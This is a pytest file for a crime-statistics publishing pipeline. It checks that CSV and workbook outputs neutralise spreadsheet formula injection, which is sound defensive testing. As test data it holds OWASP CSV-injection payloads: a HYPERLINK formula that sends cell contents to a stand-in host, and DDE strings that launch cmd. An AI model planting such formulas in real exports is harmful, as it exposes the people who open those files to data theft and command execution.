"""Issue 14 item 3: no live formula in any output.

A tiny raw folder (the mini fixture) gets a Most Similar Group file whose area names are the
OWASP CSV-injection payloads, and a CSP-table file whose *name* is one. After a refresh every
CSV of the publication and the workbook are read back (``csv``, ``openpyxl``): no text cell
starts with ``=``, ``+``, ``-``, ``@``, a tab or a CR unless it is a plain number, and no
workbook cell is a formula. Names of areas the reference tables know come from them
(``config/areas.csv``), not from the delivered file.

The refresh publishes the CSVs and the workbook only (charts and the report draw the same
values as text in images and HTML; ``charts/index.csv`` and the CLI's CSV have tests of their
own below), so the test costs seconds.
"""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest

from scp_metrics.cli.common import print_frame
from scp_metrics.publish.charts.pack import ChartOutcome, _write_index
from scp_metrics.publish.disclosure import publish_table
from scp_metrics.settings import get_settings
from scp_metrics.steps import publishing, run_refresh
from scp_metrics.warehouse import connect
from scp_metrics.warehouse.contracts import contract_for

MINI = Path(__file__).resolve().parents[1] / "fixtures" / "mini_raw"
CONFIG = Path(__file__).resolve().parents[2] / "config"

PAYLOADS = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")',
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\tthe tab",
            "\rthe return"]
#: Codes config/areas.csv knows (their names come from it), and one only
#: config/police_force_areas.csv knows (Basingstoke and Deane).
KNOWN = ["E06000045", "E06000044", "E06000023", "E06000026", "E06000028", "E06000016"]
FORCE_AREA = "E07000084"
HOSTILE_FILE = "=HYPERLINK(1)+ho_csp_recorded_crime_2009-10_Q1.csv"
STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][-+]?\d+)?$")


def live(text: str) -> bool:
    """Whether a spreadsheet would evaluate ``text`` as a formula (a plain number is a number)."""
    return text.startswith(STARTS) and not NUMBER.match(text)


@pytest.fixture(scope="module")
def published(tmp_path_factory):
    base = tmp_path_factory.mktemp("injection")
    raw = base / "raw"
    shutil.copytree(MINI, raw)
    (raw / "ho_csp_recorded_crime_2009-10_Q1.csv").rename(raw / HOSTILE_FILE)
    rows = [("E06000045", code, name) for code, name in zip(KNOWN, PAYLOADS, strict=True)]
    rows.append(("E06000045", FORCE_AREA, PAYLOADS[0]))
    with open(raw / "msg_membership_E06000045.csv", "w", newline="") as fh:
        csv.writer(fh).writerows([("group_id", "area_code", "area_name"), *rows])
    settings = get_settings(raw_dir=raw, warehouse=base / "scp.duckdb",
                            quarantine_dir=base / "quarantine", outputs_dir=base / "outputs")
    steps = (publishing.publish_csvs, publishing.publish_workbook)
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(publishing, "PUBLISH_STEPS", steps)
        summary = run_refresh(settings)
    assert [f.status for f in summary.files] == ["loaded"] * 5, summary.files
    return settings, Path(summary.outputs_dir)


def test_no_csv_cell_of_the_publication_is_a_live_formula(published):
    _, folder = published
    files = sorted(folder.rglob("*.csv"))
    assert len(files) >= 12
    found = []
    for path in files:
        with open(path, newline="") as fh:
            for i, row in enumerate(csv.reader(fh)):
                found += [(path.name, i, cell) for cell in row if live(cell)]
    assert not found


def test_no_workbook_cell_is_a_formula_nor_starts_like_one(published):
    _, folder = published
    (book,) = folder.glob("*.xlsx")
    workbook = openpyxl.load_workbook(book)
    formulas, live_text, texts = [], [], []
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((sheet.title, cell.coordinate, cell.value))
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
                    if live(cell.value):
                        live_text.append((sheet.title, cell.coordinate, cell.value))
    assert not formulas
    assert not live_text
    assert any(HOSTILE_FILE in t for t in texts)  # the file's name is in load_history, as text


def test_known_areas_are_named_from_the_reference_tables(published):
    settings, folder = published
    areas = pd.read_csv(Path(settings.config_dir) / "areas.csv").set_index("area_code")
    con = connect(settings.warehouse, read_only=True)
    try:
        names = dict(con.execute("select area_code, area_name from mart_peer_group "
                                 "order by area_code").fetchall())
    finally:
        con.close()
    for code in KNOWN:
        assert names[code] == areas.loc[code, "area_name"]
    assert names[FORCE_AREA] == "Basingstoke and Deane"  # config/police_force_areas.csv
    with open(folder / "mart_peer_group.csv", newline="") as fh:
        shown = {r["area_code"]: r["area_name"] for r in csv.DictReader(fh)}
    assert shown == names


@pytest.mark.parametrize("chunk_vectors", [None, 1])
def test_the_mart_csv_writer_neutralises_text_and_writes_numbers_as_numbers(tmp_path,
                                                                            chunk_vectors):
    """A mart with a count column (suppressed, chunked path) and one without (copied whole)."""
    con = duckdb.connect()
    con.execute("create table mart_peer_group (group_id varchar, group_label varchar, "
                "area_code varchar, area_name varchar, is_focus boolean, rank integer, "
                "distance double, population double, density_per_sq_km double, note varchar)")
    con.execute("insert into mart_peer_group values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                ["E06000045", "=1+1", "E06000045", PAYLOADS[2], True, 1, -0.5, 3.0, 4.0,
                 PAYLOADS[4]])
    target = tmp_path / "peer.csv"
    publish_table(con, "mart_peer_group", target, CONFIG, chunk_vectors=chunk_vectors)
    with open(target, newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["group_label"] == "'=1+1"
    assert row["area_name"] == "'" + PAYLOADS[2]
    assert row["note"] == "'" + PAYLOADS[4]
    assert row["distance"] == "-0.5"
    con.execute("create table mart_indicator_values as select * from (values "
                "('NI32', 'E06000045', '=HYPERLINK(1)', -3.5, 3)) "
                "t(indicator_id, area_code, area_name, value, numerator)")
    contract = contract_for("mart_indicator_values")
    assert contract.columns["numerator"].suppression == "count"
    publish_table(con, "mart_indicator_values", target, CONFIG, chunk_vectors=chunk_vectors)
    with open(target, newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["area_name"] == "'=HYPERLINK(1)"
    assert row["numerator"] == "<8"  # MARAC: counts 1 to 7 (config/privacy.toml)


def test_the_chart_index_neutralises_titles_and_reasons(tmp_path):
    outcome = ChartOutcome("ranking", "all_crime", "E06000045", "failed",
                           reason="ValueError: =cmd|' /C calc'!A0", title="+SUM(A1)")
    _write_index(tmp_path, [outcome])
    with open(tmp_path / "index.csv", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["reason"] == "ValueError: =cmd|' /C calc'!A0"  # starts harmlessly: unchanged
    assert row["title"] == "'+SUM(A1)"


def test_the_cli_csv_neutralises_text_and_leaves_numbers(capsys):
    frame = pd.DataFrame({"area_name": ["=1+1", "@x", "Southampton", "-2+3"],
                          "value": [-1.5, 2.0, -3.0, 4.0]})
    print_frame(frame, "csv")
    lines = capsys.readouterr().out.splitlines()
    assert lines == ["area_name,value", "'=1+1,-1.5", "'@x,2.0", "Southampton,-3.0",
                     "'-2+3,4.0"]
